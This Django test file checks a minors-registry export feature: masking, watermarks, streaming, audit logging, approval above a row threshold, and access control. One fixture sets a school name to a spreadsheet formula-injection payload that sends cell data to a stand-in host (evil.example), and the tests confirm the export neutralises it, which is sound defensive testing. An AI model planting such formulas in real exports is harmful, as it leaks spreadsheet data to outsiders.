"""Exports of the filtered list: masked, watermarked, neutralised, streamed, audited — and above the
threshold, approved one level up first."""

from __future__ import annotations

import csv
import datetime
import inspect
import io
import types
from typing import Any

import pytest
from django.http import StreamingHttpResponse
from django.test import Client
from openpyxl import load_workbook

from guanai.accounts.selectors import actor_for_user
from guanai.audit.models import AuditEvent
from guanai.core.testing import Check, assert_authorization_matrix
from guanai.minors import exports
from guanai.minors.exports import ExportFile, minors_export
from guanai.minors.models import ExportApproval, Minor
from guanai.minors.selectors import MinorFilters
from guanai.minors.tests.factories import (
    COMMUNITY_A,
    COMMUNITY_B,
    COUNTY_A_PREFIX,
    VILLAGE_A,
    GuardianFactory,
    MinorFactory,
    make_id_number,
)

pytestmark = pytest.mark.django_db

TODAY = datetime.datetime(2026, 11, 30, 10, 0, tzinfo=datetime.timezone(datetime.timedelta(hours=8)))
ZHANG_ID = make_id_number(COUNTY_A_PREFIX, datetime.date(2015, 3, 8), 11)
ZHANG_ADDRESS = "浙江省杭州市淳安县千岛湖镇富城村12号"
WATERMARK_A = "导出人：p-county-a（county_a_admin）　导出时间：2026年11月30日 10:00　仅限工作使用，不得外传"
HEADER = [
    "姓名", "性别", "出生日期", "年龄", "公民身份号码", "现居村（社区）", "区划代码", "现住址", "就读学校",
    "年级", "类别", "需求", "风险等级", "状态", "最近年度核查",
]  # fmt: skip


@pytest.fixture(autouse=True)
def today(time_machine: Any) -> None:
    time_machine.move_to(TODAY, tick=False)


@pytest.fixture
def children(personas: dict[str, Any]) -> dict[str, Minor]:
    zhang = MinorFactory.create(name="张三明", id_number=ZHANG_ID, address=ZHANG_ADDRESS, region_id=VILLAGE_A)
    GuardianFactory.create(minor=zhang, phone="13957112345")
    return {
        "zhang": zhang,
        "formula": MinorFactory.create(
            name="李四",
            region_id=COMMUNITY_A,
            school='=HYPERLINK("http://evil.example/?d="&A1,"点这里")',
            grade="@SUM(A1:A9)",
            categories=2,
        ),
        "minus": MinorFactory.create(name="王小二", region_id=COMMUNITY_A, school="-1+1", categories=2),
        "other_county": MinorFactory.create(name="赵五", region_id=COMMUNITY_B),
    }


def body(response: Any) -> bytes:
    assert isinstance(response, StreamingHttpResponse), type(response)
    return b"".join(response.streaming_content)  # type: ignore[arg-type]


def csv_rows(response: Any) -> list[list[str]]:
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def export(client: Client, **form: str) -> Any:
    return client.post("/minors/export/", {"format": "csv", **form})


def test_the_csv_export_is_the_filtered_list_masked_and_watermarked(
    clients: dict[str, Client], children: dict[str, Minor]
) -> None:
    response = export(clients["county_a_admin"], q="zsm")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="minors-20261130-100000.csv"'
    rows = csv_rows(response)
    assert rows[0] == [WATERMARK_A]
    assert rows[1] == HEADER
    assert rows[2] == [
        "张三明", "男", "2015-03-08", "11", "330127********" + ZHANG_ID[-4:], "富城村村民委员会",
        VILLAGE_A, "浙江省杭州市淳安县千岛湖镇****", "千岛湖镇中心小学", "四年级", "农村留守儿童", "",
        "低", "在册", "",
    ]  # fmt: skip
    assert rows[3:] == [[WATERMARK_A]]
    raw = body(export(clients["county_a_admin"])).decode()
    assert ZHANG_ID not in raw
    assert "富城村12号" not in raw
    assert "13957112345" not in raw
    assert "赵五" not in raw  # another county's child


def test_cells_that_a_spreadsheet_would_run_are_neutralised(
    clients: dict[str, Client], children: dict[str, Minor]
) -> None:
    rows = csv_rows(export(clients["county_a_admin"], category="2"))
    by_name = {row[0]: row for row in rows[2:-1]}
    assert by_name["李四"][8] == '\'=HYPERLINK("http://evil.example/?d="&A1,"点这里")'
    assert by_name["李四"][9] == "'@SUM(A1:A9)"
    assert by_name["王小二"][8] == "'-1+1"


def test_the_workbook_is_neutralised_and_carries_the_watermark_in_rows_footer_and_properties(
    clients: dict[str, Client], children: dict[str, Minor]
) -> None:
    response = clients["county_a_admin"].post("/minors/export/", {"format": "xlsx", "category": "2"})
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    workbook = load_workbook(io.BytesIO(body(response)))
    assert workbook.properties.creator == "p-county-a"
    assert workbook.properties.description == WATERMARK_A
    sheet = workbook.active
    assert sheet is not None
    assert sheet.oddFooter.center.text == WATERMARK_A
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][0] == WATERMARK_A
    assert rows[-1][0] == WATERMARK_A
    assert rows[1] == HEADER
    school = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == "李四")[8]
    assert school.data_type == "s"  # text, not a formula
    assert school.value == '\'=HYPERLINK("http://evil.example/?d="&A1,"点这里")'
    assert {row[0] for row in rows[2:-1]} == {"李四", "王小二"}
    grade = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == "李四")[9]
    assert (grade.data_type, grade.value) == ("s", "'@SUM(A1:A9)")


def test_every_export_is_an_audit_event_with_rows_and_format(
    clients: dict[str, Client], children: dict[str, Minor]
) -> None:
    body(export(clients["county_a_admin"], category="2"))
    body(clients["province_admin"].post("/minors/export/", {"format": "xlsx"}))
    events = AuditEvent.objects.filter(action="minors.export").order_by("id")
    assert list(events.values_list("actor_username", "outcome", "detail", "region_code")) == [
        ("p-county-a", "success", {"rows": 2, "format": "csv"}, "330127000000"),
        ("p-province", "success", {"rows": 4, "format": "xlsx"}, "330000000000"),
    ]


def test_the_file_is_produced_while_it_is_sent(
    clients: dict[str, Client], children: dict[str, Minor], monkeypatch: Any, personas: dict[str, Any]
) -> None:
    """A generator: nothing is read before the first chunk is asked for, and CSV comes in pieces."""
    monkeypatch.setattr(exports, "CSV_ROWS_PER_CHUNK", 1)
    actor = actor_for_user(personas["county_a_admin"])
    result = minors_export(actor=actor, filters=MinorFilters(), file_format="csv")
    assert isinstance(result, ExportFile)
    assert isinstance(result.chunks, types.GeneratorType)
    assert inspect.getgeneratorstate(result.chunks) == inspect.GEN_CREATED
    chunks = list(result.chunks)
    assert len(chunks) == 4  # one per row (three rows), then the closing watermark
    xlsx = minors_export(actor=actor, filters=MinorFilters(), file_format="xlsx")
    assert isinstance(xlsx, ExportFile)
    assert isinstance(xlsx.chunks, types.GeneratorType)
    assert b"".join(xlsx.chunks).startswith(b"PK")


def test_the_api_streams_the_filtered_file(clients: dict[str, Client], children: dict[str, Minor]) -> None:
    response = clients["county_a_admin"].post(
        "/api/v1/minors/exports",
        {"filters": {"q": "zsm"}, "format": "csv"},
        content_type="application/json",
    )
    assert response.status_code == 200
    rows = csv_rows(response)
    assert [row[0] for row in rows] == [WATERMARK_A, "姓名", "张三明", WATERMARK_A]
    response = clients["county_a_admin"].post(
        "/api/v1/minors/exports", {"format": "pdf"}, content_type="application/json"
    )
    assert response.status_code == 422


# --- More than the threshold: approved one level up -------------------------------------------------


@pytest.fixture
def threshold(monkeypatch: Any) -> int:
    """Three rows stand for 1,000 in these tests."""
    monkeypatch.setattr(exports, "EXPORT_APPROVAL_THRESHOLD", 2)
    return 2


def test_a_large_export_files_a_request_instead_and_records_the_refusal(
    clients: dict[str, Client], children: dict[str, Minor], threshold: int
) -> None:
    client = clients["county_a_admin"]
    response = export(client)
    assert response.status_code == 202
    assert not response.streaming
    approval = ExportApproval.objects.get()
    assert (approval.state, approval.row_count, approval.file_format, approval.region_id) == (
        "pending",
        3,
        "csv",
        "330127000000",
    )
    assert f"已提交导出申请（编号 {approval.pk}）" in response.content.decode()
    export(client)  # asking again reuses the pending request
    assert ExportApproval.objects.count() == 1
    refusals = AuditEvent.objects.filter(action="minors.export", outcome="denied")
    assert [event.detail for event in refusals] == [
        {"rows": 3, "format": "csv", "approval_id": approval.pk}
    ] * 2
    assert "待审批" in client.get("/minors/exports/").content.decode()


def test_only_an_admin_one_level_up_may_approve(
    clients: dict[str, Client], children: dict[str, Minor], threshold: int, personas: dict[str, Any]
) -> None:
    export(clients["county_a_admin"])
    county_request = ExportApproval.objects.get()
    approve = f"/api/v1/minors/exports/{county_request.pk}/approve"
    assert clients["county_a_admin"].post(approve).status_code == 404  # one's own level
    assert clients["county_b_admin"].post(approve).status_code == 404  # another branch
    assert clients["township_worker"].post(approve).status_code == 403  # no EXPORT_APPROVE
    assert clients["anonymous"].post(approve).status_code == 401
    # The county admin sees nothing to decide; the province admin sees the request.
    assert (
        f'id="approve-{county_request.pk}"'
        not in clients["county_a_admin"].get("/minors/exports/").content.decode()
    )
    assert (
        f'id="approve-{county_request.pk}"'
        in clients["province_admin"].get("/minors/exports/").content.decode()
    )
    response = clients["province_admin"].post(approve)
    assert response.status_code == 200
    assert response.json() == {
        "id": county_request.pk,
        "state": "approved",
        "rows": 3,
        "format": "csv",
        "region_code": "330127000000",
    }
    assert clients["province_admin"].post(approve).status_code == 409  # decided already
    event = AuditEvent.objects.get(action="export.approved")
    assert (event.actor_username, event.target_id, event.detail) == (
        "p-province",
        str(county_request.pk),
        {"rows": 3, "format": "csv"},
    )
    # A township's request is approved by its county.
    export(clients["township_worker"])
    township_request = ExportApproval.objects.get(region_id="330127100000")
    page = clients["county_a_admin"].post(f"/minors/exports/{township_request.pk}/approve/")
    assert page.status_code == 302
    township_request.refresh_from_db()
    assert (township_request.state, township_request.decided_by_id) == (
        "approved",
        personas["county_a_admin"].pk,
    )


def test_an_approval_allows_one_export_by_its_requester(
    clients: dict[str, Client], children: dict[str, Minor], threshold: int
) -> None:
    export(clients["county_a_admin"], category="2", format="xlsx")  # two rows: under the threshold
    assert not ExportApproval.objects.exists()
    export(clients["county_a_admin"])
    approval = ExportApproval.objects.get()
    download = f"/minors/exports/{approval.pk}/download/"
    assert clients["county_a_admin"].post(download).status_code == 302  # not approved yet
    clients["province_admin"].post(f"/minors/exports/{approval.pk}/approve/")
    assert (
        f'id="download-{approval.pk}"' in clients["county_a_admin"].get("/minors/exports/").content.decode()
    )
    assert clients["township_worker"].post(download).status_code == 404  # someone else's approval
    rows = csv_rows(clients["county_a_admin"].post(download))
    assert len(rows) == 3 + 3  # watermark, header, three children, watermark
    approval.refresh_from_db()
    assert approval.state == "used"
    again = clients["county_a_admin"].post(download)
    assert again.status_code == 302
    assert "该导出申请已导出，不能导出" in clients["county_a_admin"].get("/minors/").content.decode()
    events = AuditEvent.objects.filter(action="minors.export", actor_username="p-county-a").order_by("id")
    assert [(event.outcome, event.detail) for event in events] == [
        ("success", {"rows": 2, "format": "xlsx"}),
        ("denied", {"rows": 3, "format": "csv", "approval_id": approval.pk}),
        ("denied", {"rows": 0, "format": "", "code": "conflict"}),  # not approved yet
        ("success", {"rows": 3, "format": "csv", "approval_id": approval.pk}),
        ("denied", {"rows": 0, "format": "", "code": "conflict"}),  # used already
    ]
    township = AuditEvent.objects.get(action="minors.export", actor_username="p-township")
    assert (township.outcome, township.detail) == ("denied", {"rows": 0, "format": "", "code": "not_found"})


def test_the_api_answers_202_then_exports_with_the_approval(
    clients: dict[str, Client], children: dict[str, Minor], threshold: int
) -> None:
    client = clients["county_a_admin"]
    response = client.post("/api/v1/minors/exports", {"format": "csv"}, content_type="application/json")
    assert response.status_code == 202
    pending = response.json()
    assert pending["state"] == "pending"
    assert pending["rows"] == 3
    clients["province_admin"].post(f"/api/v1/minors/exports/{pending['id']}/approve")
    response = client.post(
        "/api/v1/minors/exports", {"approval_id": pending["id"]}, content_type="application/json"
    )
    assert response.status_code == 200
    assert len(csv_rows(response)) == 6
    response = client.post(
        "/api/v1/minors/exports", {"approval_id": pending["id"]}, content_type="application/json"
    )
    assert response.status_code == 409


def test_declining_a_request(clients: dict[str, Client], children: dict[str, Minor], threshold: int) -> None:
    export(clients["county_a_admin"])
    approval = ExportApproval.objects.get()
    response = clients["province_admin"].post(f"/api/v1/minors/exports/{approval.pk}/decline")
    assert response.json()["state"] == "declined"
    assert clients["county_a_admin"].post(f"/minors/exports/{approval.pk}/download/").status_code == 302
    assert AuditEvent.objects.filter(action="export.declined", actor_username="p-province").count() == 1


def test_authorization_matrix_of_exports(
    clients: dict[str, Client], children: dict[str, Minor], threshold: int
) -> None:
    export(clients["county_a_admin"])
    approval = ExportApproval.objects.get().pk
    csv_form = {"format": "csv"}
    checks: list[Check] = []
    for persona in ("volunteer", "lawyer", "auditor", "system_admin"):
        checks += [
            Check(persona, "POST", "/minors/export/", 403, form=csv_form, must_not_contain=("张三明",)),
            Check(persona, "GET", "/minors/exports/", 403),
            Check(persona, "POST", f"/minors/exports/{approval}/approve/", 403),
            Check(persona, "POST", f"/minors/exports/{approval}/download/", 403),
            Check(persona, "POST", "/api/v1/minors/exports", 403, data=csv_form),
            Check(persona, "POST", f"/api/v1/minors/exports/{approval}/approve", 403),
            Check(persona, "POST", f"/api/v1/minors/exports/{approval}/decline", 403),
        ]
    checks += [
        Check("anonymous", "POST", "/minors/export/", 302, form=csv_form),
        Check("anonymous", "GET", "/minors/exports/", 302),
        Check("anonymous", "POST", "/api/v1/minors/exports", 401, data=csv_form),
        Check("anonymous", "POST", f"/api/v1/minors/exports/{approval}/approve", 401),
        Check("county_b_admin", "POST", f"/minors/exports/{approval}/approve/", 404),
        Check("county_b_admin", "POST", f"/api/v1/minors/exports/{approval}/approve", 404),
        Check("county_b_admin", "POST", f"/api/v1/minors/exports/{approval}/decline", 404),
        Check("county_b_admin", "POST", f"/minors/exports/{approval}/download/", 404),
        Check("county_a_admin", "POST", f"/api/v1/minors/exports/{approval}/approve", 404),
        Check("township_worker", "POST", f"/minors/exports/{approval}/approve/", 403),
        Check("township_worker", "POST", f"/api/v1/minors/exports/{approval}/approve", 403),
        # A region filter outside one's scope is refused, not silently dropped.
        Check("county_b_admin", "POST", "/minors/export/", 302, form={**csv_form, "region": "330127000000"}),
        Check("county_a_admin", "GET", "/minors/exports/", 200),
        Check("township_worker", "GET", "/minors/exports/", 200),
        Check("county_a_admin", "POST", "/api/v1/minors/exports", 202, data=csv_form),
        Check("province_admin", "POST", f"/api/v1/minors/exports/{approval}/approve", 200),
    ]
    assert assert_authorization_matrix(clients, checks) == len(checks)


def test_an_approval_does_not_cover_a_list_that_has_grown_since(
    clients: dict[str, Client], children: dict[str, Minor], threshold: int
) -> None:
    export(clients["county_a_admin"])
    approval = ExportApproval.objects.get()
    clients["province_admin"].post(f"/minors/exports/{approval.pk}/approve/")
    MinorFactory.create(name="新登记", region_id=COMMUNITY_A)  # three rows approved, four now
    response = clients["county_a_admin"].post(
        "/api/v1/minors/exports", {"approval_id": approval.pk}, content_type="application/json"
    )
    assert response.status_code == 409
    assert response.json()["message"] == "批准时共 3 行，现在为 4 行，请重新申请导出"
    approval.refresh_from_db()
    assert approval.state == "approved"
